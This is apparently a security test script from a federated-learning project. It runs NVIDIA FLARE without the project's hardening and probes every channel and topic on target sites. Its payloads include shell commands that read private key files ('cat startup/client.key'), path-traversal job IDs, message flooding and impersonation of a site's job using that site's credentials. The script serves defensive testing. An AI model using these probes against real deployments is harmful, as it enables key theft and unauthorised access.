"""FLARE as it is, without our gate, in the hands of somebody who has a kit: tries everything on everybody.

    python intruder.py FOLDER PROGRAM -m ENGINE …

runs one of FLARE's own programs. When FOLDER/attack.json appears, {"targets": […], "what": …}, it is taken away, the
program's cell attacks the targets, and FOLDER/results.json says what came back. `attack` is also called in a test's
own process, with the cell of an operator's session.
"""

from __future__ import annotations

import json
import runpy
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from nvflare.apis import fl_constant
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3 import communicator
from nvflare.fuel.f3.cellnet import net_agent
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic
from nvflare.fuel.utils.fobs import FOBSContextKey
from nvflare.private import defs
from nvflare.private.admin_defs import Message
from nvflare.private.fed.client.client_req_processors import ClientRequestProcessors

from semifl.deploy.flare.hardening import TRANSPORT
from semifl.deploy.flare.local_socket import LocalSocketDriver
from semifl.deploy.flare.replacements import replace_all

PROGRAMS = {"server_train": "server", "client_train": "client"}
PATIENCE = 1.0  # seconds; an answer on one machine takes milliseconds
BODIES = {  # what is asked where it matters
    "sys.shell": ["cat startup/client.key", "cat ../startup/client.key", "cat startup/server.key", "ls -R .."],
}
JOBS = ("memory", "../memory", "startup", "local")  # folders of a kit in the place of a job's


def words(thing: Any) -> set[str]:
    """The strings that a class or a module of constants holds."""
    return {value for name, value in vars(thing).items() if isinstance(value, str) and not name.startswith("__")}


def all_topics() -> set[tuple[str, str]]:
    """Every channel and topic that this version of FLARE knows, from FLARE itself."""
    orders = {topic for each in ClientRequestProcessors.request_processors for topic in each.get_topics()}
    for name, each in vars(defs).items():
        if name.endswith("Topic"):
            orders |= words(each)
    found = {(CellChannel.CLIENT_MAIN, topic) for topic in orders}
    network = {value for name, value in vars(net_agent).items() if name.startswith("_TOPIC_")}
    found |= {(CellChannel.CELLNET, topic) for topic in network}
    found |= {(CellChannel.CLIENT_COMMAND, topic) for topic in words(fl_constant.AdminCommandNames)}
    for channel in (CellChannel.SERVER_COMMAND, CellChannel.SERVER_PARENT_LISTENER):
        found |= {(channel, topic) for topic in words(fl_constant.ServerCommandNames)}
    found |= {(CellChannel.SERVER_MAIN, topic) for topic in words(CellChannelTopic)}
    # Each other channel that there is, by a topic that any handler of all topics would get.
    found |= {(channel, "anything") for channel in words(CellChannel)}
    return found - {(CellChannel.CELLNET, CellChannelTopic.Bye)}  # a farewell of one's own is no attack


def attack(cell: Any, targets: list[str]) -> list[dict[str, Any]]:
    """Every topic to every target, as nobody of ours would; what came back."""
    tries = [(target, channel, topic) for target in targets for channel, topic in sorted(all_topics())]
    with ThreadPoolExecutor(24) as pool:
        return [each for some in pool.map(lambda one: list(_try(cell, *one)), tries) for each in some]


def _try(cell: Any, target: str, channel: str, topic: str) -> Any:
    bodies = BODIES.get(topic, ["x"])
    for body, job in [(body, "memory") for body in bodies] + [("x", job) for job in JOBS if "run" in topic]:
        yield {"target": target, "channel": channel, "topic": topic, **_ask(cell, target, channel, topic, body, job)}


def _ask(cell: Any, target: str, channel: str, topic: str, body: str, job: str) -> dict[str, str]:
    if channel == CellChannel.CLIENT_MAIN:
        payload: Any = Message(topic, body)
        payload.set_header(defs.RequestHeader.JOB_ID, job)
    else:
        payload = Shareable()
        payload.set_header("job_id", job)
    message = defs.new_cell_message({"job_id": job}, payload)
    try:
        reply = cell.send_request(channel=channel, topic=topic, target=target, request=message, timeout=PATIENCE)
    except Exception as error:
        return {"code": type(error).__name__, "said": ""}
    said = reply.payload
    return {"code": str(reply.get_header("cn__return_code")), "said": str(getattr(said, "body", said))}


def unasked(cell: Any, target: str, size: int, count: int, patience: float) -> list[dict[str, Any]]:
    """Answers that nobody asked for, each of `size` bytes, to a hub's job; `patience` seconds for each."""
    shareable = Shareable()
    shareable["packet"] = bytes(size)
    for _ in range(count):
        message = defs.new_cell_message({}, shareable)
        cell.send_request(
            channel=CellChannel.SERVER_COMMAND, topic="submit_update", target=target, request=message, timeout=patience
        )
    return []


def _as_job(core: CoreCell, job: str) -> Any:
    """A second cell that says it is the site's job, with the site's own certificate and token."""
    name = f"{core.get_fqcn()}.{job}"
    if name not in CoreCell.ALL_CELLS:
        context = core.get_fobs_context()
        cell = Cell(
            name, core.root_url, True, dict(context[FOBSContextKey.SEC_CREDS]), auth_identity_map={"server": "hub"}
        )
        cell.core_cell.out_req_filter_reg = core.out_req_filter_reg
        cell.core_cell.out_reply_filter_reg = core.out_reply_filter_reg
        cell.core_cell.start()
        time.sleep(3)
    return CoreCell.ALL_CELLS[name].get_fobs_context()[FOBSContextKey.CELL]


def _wait_and_attack(folder: Path) -> None:
    while True:
        if (folder / "attack.json").exists():
            order = json.loads((folder / "attack.json").read_text())
            (folder / "attack.json").unlink()
            _attack_once(folder, order)
        time.sleep(0.2)


def _attack_once(folder: Path, order: dict[str, Any]) -> None:
    core = next(each for name, each in CoreCell.ALL_CELLS.items() if "." not in name)
    cell = _as_job(core, order["job"]) if order.get("job") else core.get_fobs_context()[FOBSContextKey.CELL]
    if order["what"] == "unasked":
        results = unasked(cell, order["targets"][0], order["size"], order["count"], order["patience"])
    else:
        results = attack(cell, order["targets"])
    (folder / "results.part").write_text(json.dumps(results))
    (folder / "results.part").rename(folder / "results.json")


def main() -> None:
    folder, program = Path(sys.argv.pop(1)), sys.argv.pop(1)
    replace_all(TRANSPORT)
    communicator.driver_mgr.register(LocalSocketDriver)  # else its own job, which semifl starts, would not find it
    threading.Thread(target=_wait_and_attack, args=(folder,), daemon=True).start()
    runpy.run_module(f"nvflare.private.fed.app.{PROGRAMS[program]}.{program}", run_name="__main__", alter_sys=True)


if __name__ == "__main__":
    main()
